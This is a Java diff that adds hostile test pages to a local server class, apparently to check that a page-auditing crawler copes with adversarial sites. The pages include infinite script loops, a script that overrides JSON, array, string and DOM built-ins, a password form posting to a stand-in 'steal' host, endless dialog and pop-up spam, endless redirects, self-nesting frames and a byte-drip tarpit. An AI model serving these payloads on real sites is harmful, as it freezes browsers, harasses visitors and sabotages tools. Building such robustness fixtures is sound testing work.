@@ -51,6 +51,42 @@ final class HostileEndpoints {
             <p>Trailing text after everything.
             """;
     private static final int CHUNK = 64 * 1024;
+    /** Loads normally, then, a moment later, runs a script that never yields. */
+    static final String LATE_LOOP = page0("A page that freezes after loading",
+            "<p>Only 2 left in stock: order in the next minute.</p>"
+                    + "<script>setTimeout(function () { for (;;) {} }, 1200);</script>");
+    /** A script that never yields before the page has even finished loading. */
+    static final String EARLY_LOOP = "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>A page that never loads</title>"
+            + "<script>for (;;) {}</script></head><body><h1>Never rendered</h1><p>Hurry, only 3 left in stock!</p></body></html>\n";
+    /**
+     * Redefines what an auditor's script would use: JSON, array and string methods, DOM queries and styles. Its text
+     * has a scarcity claim that must still be found.
+     */
+    static final String SABOTAGE = page0("A page that sabotages built-ins",
+            "<p id=\"scarce\">Only 2 left in stock - order now!</p>"
+                    + "<form action=\"https://collector.invalid/steal\" method=\"post\"><input type=\"password\" name=\"pw\"></form>"
+                    + "<script>"
+                    + "var c = {}; c.self = c;"
+                    + "JSON.stringify = function () { throw new TypeError('Converting circular structure to JSON'); };"
+                    + "JSON.parse = function () { return c; };"
+                    + "Array.from = function () { return []; }; Array.prototype.map = function () { return []; };"
+                    + "Array.prototype.push = function () { throw new Error('no push'); };"
+                    + "String.prototype.trim = function () { return ''; }; String.prototype.replace = function () { return ''; };"
+                    + "Document.prototype.querySelectorAll = function () { throw new Error('no queries'); };"
+                    + "Element.prototype.querySelectorAll = function () { throw new Error('no queries'); };"
+                    + "Element.prototype.getElementsByTagName = function () { return []; };"
+                    + "window.getComputedStyle = function () { throw new Error('no styles'); };"
+                    + "Element.prototype.getBoundingClientRect = function () { return {width: 0, height: 0}; };"
+                    + "Object.defineProperty(Document.prototype, 'title', {get: function () { return c; }});"
+                    + "Object.defineProperty(HTMLElement.prototype, 'innerText', {get: function () { return c; }});"
+                    + "</script>");
+    /** Alerts, confirms and new windows in an endless stream, and a page that begs not to be left. */
+    static final String DIALOGS = page0("A page that nags",
+            "<p>Do not leave!</p><script>"
+                    + "window.addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = 'stay'; return 'stay'; });"
+                    + "var n = 0; setInterval(function () { n++; alert('alert ' + n); confirm('Sure? ' + n); prompt('Why? ' + n);"
+                    + " window.open('/_hostile/dialogs?w=' + n, '_blank'); }, 30);"
+                    + "</script>");
 
     private final Origins origins;
     private final CountDownLatch closing;
@@ -79,6 +115,12 @@ final class HostileEndpoints {
             case "malformed" -> Responses.html(exchange, 200, MALFORMED_BODY);
             case "slow" -> slow(exchange);
             case "downgrade" -> Responses.redirect(exchange, 302, origins.http() + PREFIX + "downgraded");
+            case "late-loop" -> Responses.html(exchange, 200, LATE_LOOP);
+            case "early-loop" -> Responses.html(exchange, 200, EARLY_LOOP);
+            case "sabotage" -> Responses.html(exchange, 200, SABOTAGE);
+            case "dialogs" -> Responses.html(exchange, 200, DIALOGS);
+            case "nest" -> Responses.html(exchange, 200, nest(exchange));
+            case "drip" -> drip(exchange);
             case "downgraded" -> Responses.html(exchange, 200, page("Plain HTTP page",
                     "This page was reached by a redirect from HTTPS to plain HTTP."));
             default -> manyRedirectsOrNotFound(exchange, self, name);
@@ -96,6 +138,9 @@ final class HostileEndpoints {
         } else if (name.equals(base + "/end")) {
             Responses.html(exchange, 200, page("Arrived", "This page comes after " + MANY_REDIRECT_HOPS
                     + " redirects."));
+        } else if (name.matches("chain/\\d{1,9}")) {
+            // An endless redirect chain: every hop a new address, so no loop is ever seen.
+            Responses.redirect(exchange, 302, self + "chain/" + (Long.parseLong(name.substring("chain/".length())) + 1));
         } else if (name.matches(base + "/[1-9]")) {
             int hop = Integer.parseInt(name.substring(base.length() + 1));
             if (hop < MANY_REDIRECT_HOPS - 1) {
@@ -184,6 +229,34 @@ final class HostileEndpoints {
                 }
             }
         }
+    }
+
+    /** A frame that contains itself, one level deeper each time, for ever. */
+    private static String nest(HttpExchange exchange) {
+        String q = exchange.getRequestURI().getQuery();
+        long depth = q != null && q.matches("d=\\d{1,9}") ? Long.parseLong(q.substring(2)) : 0;
+        return page0("Nested " + depth, "<p>Level " + depth + "</p><iframe src=\"/_hostile/nest?d=" + (depth + 1)
+                + "\" width=\"600\" height=\"400\"></iframe><iframe src=\"/_hostile/nest?d=" + (depth + 1) + "\"></iframe>");
+    }
+
+    /** A page whose head arrives, then one more byte every 2 seconds, for ever (until the server closes). */
+    private void drip(HttpExchange exchange) throws IOException, InterruptedException {
+        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
+        exchange.sendResponseHeaders(200, 0);
+        try (OutputStream out = exchange.getResponseBody()) {
+            out.write(("<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>A tarpit</title></head>"
+                    + "<body><h1>A tarpit</h1><p>Only 4 left in stock.</p><p>").getBytes(StandardCharsets.US_ASCII));
+            out.flush();
+            while (!closing.await(2, TimeUnit.SECONDS)) {
+                out.write('.');
+                out.flush();
+            }
+        }
+    }
+
+    private static String page0(String title, String body) {
+        return "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>" + title + "</title></head>"
+                + "<body><h1>" + title + "</h1>" + body + "</body></html>\n";
     }
 
     private static String page(String title, String text) {
